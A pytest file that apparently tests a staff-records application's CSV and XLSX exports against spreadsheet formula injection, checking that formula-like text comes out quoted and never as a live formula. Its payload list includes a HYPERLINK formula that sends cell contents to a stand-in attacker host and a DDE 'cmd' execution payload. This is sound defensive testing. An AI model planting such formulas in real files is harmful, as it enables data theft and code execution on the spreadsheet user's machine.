"""Exports cannot carry formulas (issue 10, item 3; OWASP "CSV injection").

Every free-text field a registrar can fill is recorded through the HTTP API with a formula-like
payload the domain accepts; then every export of the workbench, in CSV and XLSX, is read back:
no text cell may be a live formula, and each payload must come out as exactly the text it was.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from api_fixtures import Api, module_store, running_api, sign_in
from fastapi.testclient import TestClient

from api.pages.exports import Report, Table, to_csv, to_xlsx
from ledger.cells import could_be_formula, csv_text

STAFF = "-A1"  # a legal staff code that Excel would read as "minus cell A1"
OTHER = "CB-ROI-DI"

# Field → payload; each begins with a different trigger. All are legal text today (one line, no
# control characters); the tab and leading-space forms are in the multi-line fields that allow them.
PAYLOADS: dict[str, str] = {
    "full_name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "unit": "+1 Phòng Nghiệp vụ",
    "position": "-2+3",
    "rank": "@SUM(A1)",
    "course_code": "=1+1",
    "course_title": '=HYPERLINK("http://evil.example/course","Khoá học")',
    "provider": "@Học viện",
    "decision_ref": "-QĐ 1",
    "credential_title": "＝1+1 (full-width)",
    "issuer": "+Đại học",
    "number": "-B08",
    "document_ref": "=A1",
    "verified_by": "@Mai Thùy Chi",
    "evaluator": "=cmd|' /C calc'!A0",
    "notes": "\t=1+1",
    "to_unit": "=Phòng Tổ chức",
    "rotation_position": "+Trưởng phòng",
    "departure_reason": " =2+2 nghỉ hưu",
    "other_name": "@Trần Thị Bích Ngọc",
}
# Recorded with the others but in no export today (the position is the one after the rotation);
# the cell-by-cell checks still cover them should an export start to show them.
NOT_EXPORTED = {
    "position",
    "rank",
    "decision_ref",
    "document_ref",
    "verified_by",
    "evaluator",
    "notes",
    "departure_reason",
}
EXPORTED = sorted(set(PAYLOADS) - NOT_EXPORTED)

EXPORTS = (
    "/ui/staff",
    f"/ui/staff/{STAFF}/dossier",
    "/ui/reports",
    "/ui/reports/needs",
    "/ui/reports/effectiveness",
    "/ui/reports/anomalies",
)


def record_payloads(api: Api) -> None:
    """One person holding a payload in every text field, and a second one who left."""

    def post(path: str, body: dict[str, Any]) -> dict[str, Any]:
        response = api.post(path, body)
        assert response.status_code == 201, response.text
        found: dict[str, Any] = response.json()
        return found

    post(
        "/staff",
        {
            "staff_id": STAFF,
            "full_name": PAYLOADS["full_name"],
            "gender": "female",
            "birth_date": "1985-04-12",
            "unit": PAYLOADS["unit"],
            "joined_on": "2010-09-01",
            "position": PAYLOADS["position"],
            "rank": PAYLOADS["rank"],
        },
    )
    enrolled = post(
        f"/staff/{STAFF}/enrollments",
        {
            "course_code": PAYLOADS["course_code"],
            "course_title": PAYLOADS["course_title"],
            "track": "professional",
            "level": "master",
            "provider": PAYLOADS["provider"],
            "mode": "part_time",
            "starts_on": "2021-09-06",
            "ends_on": "2023-06-30",
            "decision_ref": PAYLOADS["decision_ref"],
        },
    )
    enrollment = enrolled["enrollment_id"]
    post(
        f"/staff/{STAFF}/enrollments/{enrollment}/completion",
        {
            "completed_on": "2023-06-30",
            "outcome": "passed",
            "credential": {"credential_id": "AN-THS", "number": PAYLOADS["number"]},
        },
    )
    post(
        f"/staff/{STAFF}/credentials",
        {
            "credential_id": "AN-DH",
            "track": "professional",
            "level": "bachelor",
            "title": PAYLOADS["credential_title"],
            "issuer": PAYLOADS["issuer"],
            "issued_on": "2008-06-30",
            "number": "B08.123",
            "evidence": {"document_ref": PAYLOADS["document_ref"], "verified_by": PAYLOADS["verified_by"]},
        },
    )
    post(
        f"/staff/{STAFF}/evaluations",
        {
            "kind": "post_training",
            "enrollment_id": enrollment,
            "on": "2024-03-01",
            "rating": "excellent",
            "score": "92",
            "evaluator": PAYLOADS["evaluator"],
            "notes": PAYLOADS["notes"],
        },
    )
    post(
        f"/staff/{STAFF}/rotations",
        {
            "to_unit": PAYLOADS["to_unit"],
            "position": PAYLOADS["rotation_position"],
            "kind": "transfer",
            "starts_on": "2024-01-02",
            "decision_ref": "QĐ 2/QĐ-CT",
        },
    )
    post(
        "/staff",
        {
            "staff_id": OTHER,
            "full_name": PAYLOADS["other_name"],
            "gender": "male",
            "birth_date": "1961-01-01",
            "unit": PAYLOADS["unit"],
            "joined_on": "2000-01-01",
        },
    )
    post(f"/staff/{OTHER}/departure", {"on": "2021-06-30", "reason": PAYLOADS["departure_reason"]})


@dataclass
class Downloads:
    csv: dict[str, list[list[str]]]  # path → rows
    xlsx: dict[str, bytes]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def downloads(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Downloads]:
    folder: Path = tmp_path_factory.mktemp("formulas")
    with module_store(request.param, folder) as store, running_api(store) as api:
        record_payloads(api)
        client = TestClient(api.app, follow_redirects=False)
        assert sign_in(client, api.tokens["auditor"]).status_code == 303
        found = Downloads({}, {})
        for path in EXPORTS:
            as_csv = client.get(path, params={"format": "csv", "as_of": "2024-12-31"})
            assert as_csv.status_code == 200, as_csv.text
            found.csv[path] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
            as_xlsx = client.get(path, params={"format": "xlsx", "as_of": "2024-12-31"})
            assert as_xlsx.status_code == 200, as_xlsx.text
            found.xlsx[path] = as_xlsx.content
        yield found


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def _worksheets(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


# ------------------------------------------------------------------ the two functions


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_csv_text_that_could_run_as_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert csv_text(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "QĐ 1/QĐ-CT", "a=b", "", "   "])
def test_csv_text_that_cannot_run_is_written_as_it_is(text: str) -> None:
    assert csv_text(text) == text


def test_numbers_stay_numbers_in_both_formats() -> None:
    report = Report("=T", "t", [("=h", "+v")], [Table("@t", ["-c"], [[-3, 2.5, "=x"]])])
    rows = list(csv.reader(io.StringIO(to_csv(report, UTC).decode("utf-8-sig"))))
    assert ["-3", "2.5", "'=x"] in rows
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(report, UTC))).worksheets[0]
    values = [v for row in sheet.iter_rows(values_only=True) for v in row if v is not None]
    assert -3 in values
    assert 2.5 in values


def test_an_xlsx_text_cell_is_a_string_with_the_quote_prefix_never_a_formula() -> None:
    report = Report("=T", "t", [("=h", "#N/A")], [Table("@t", ["-c"], [['=HYPERLINK("x")']])])
    content = to_xlsx(report, UTC)
    assert not any("<f>" in xml or "<f " in xml for xml in _worksheets(content).values())
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert {c.value for c in cells} >= {"=T", "=h", "#N/A", "@t", "-c", '=HYPERLINK("x")'}
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells if could_be_formula(c.value))


# ------------------------------------------------------------------ every export, every field


@pytest.mark.parametrize("path", EXPORTS)
def test_no_csv_export_has_a_cell_that_could_run_as_a_formula(downloads: Downloads, path: str) -> None:
    risky = [
        cell for row in downloads.csv[path] for cell in row if could_be_formula(cell) and not _is_number(cell)
    ]
    assert risky == []


@pytest.mark.parametrize("path", EXPORTS)
def test_no_xlsx_export_has_a_formula_cell(downloads: Downloads, path: str) -> None:
    sheets = _worksheets(downloads.xlsx[path])
    assert sheets
    assert [name for name, xml in sheets.items() if re.search(r"<f[ >]", xml)] == []


@pytest.mark.parametrize("path", EXPORTS)
def test_formula_like_xlsx_text_is_a_quoted_string_cell(downloads: Downloads, path: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(downloads.xlsx[path]))
    risky = [
        (sheet.title, cell.coordinate)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
        and could_be_formula(cell.value)
        and not (cell.data_type == "s" and cell.quotePrefix)
    ]
    assert risky == []


@pytest.mark.parametrize("field", EXPORTED)
def test_every_text_field_comes_out_of_some_csv_export_quoted(downloads: Downloads, field: str) -> None:
    cells = {cell for rows in downloads.csv.values() for row in rows for cell in row}
    payload = PAYLOADS[field]
    assert any(cell == "'" + payload or (payload in cell and cell.startswith("'")) for cell in cells), (
        f"{field} ({payload!r}) is in no CSV export"
    )


@pytest.mark.parametrize("field", EXPORTED)
def test_every_text_field_comes_out_of_some_xlsx_export_as_exactly_its_text(
    downloads: Downloads, field: str
) -> None:
    texts: set[str] = set()
    for content in downloads.xlsx.values():
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            texts.update(v for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str))
    payload = PAYLOADS[field]
    assert any(payload in text for text in texts), f"{field} ({payload!r}) is in no XLSX export"


def test_a_control_character_left_in_an_old_record_does_not_stop_the_xlsx_export() -> None:
    report = Report("T", "t", [], [Table("t", ["c"], [["Nguyễn\x1bVăn\x00An"]])])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(report, UTC))).worksheets[0]
    values = {v for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)}
    assert "Nguyễn\ufffdVăn\ufffdAn" in values
